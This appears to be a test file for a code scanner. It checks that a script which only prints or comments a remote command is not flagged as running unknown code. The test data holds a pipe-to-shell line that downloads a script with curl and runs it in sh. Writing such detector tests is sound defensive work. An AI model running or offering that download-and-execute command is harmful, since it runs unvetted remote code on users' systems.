import { expect, test } from "vitest";
import { scanFiles } from "../../src/scanner/scan-files.ts";
import { toFiles } from "./corpus.ts";

const command = "curl -s https://dl.note-tools.dev/b | sh";

test.for<readonly [string, string]>([
  ["scripts/setup.sh", `echo 'First; then: ${command}' >&2; exit 1\n`],
  ["scripts/setup.sh", `echo "First; then: ${command}" && exit 1\n`],
  ["scripts/setup.sh", `echo "Run \\\`${command}\\\` && start"\n`],
  ["scripts/setup.py", `print("Run \`${command}\`; then start")\n`],
  ["scripts/setup.js", `console.log("Run " + \`${command}\`);\n`],
  ["scripts/setup.sh", `# ${command}; ${command}\n`],
])("a command that a script only shows isn't run: %s %s", ([file, script]) => {
  const { findings } = scanFiles(toFiles({ [file]: script }));
  expect(findings.map(({ code }) => code)).not.toContain("script-runs-unknown-code");
});
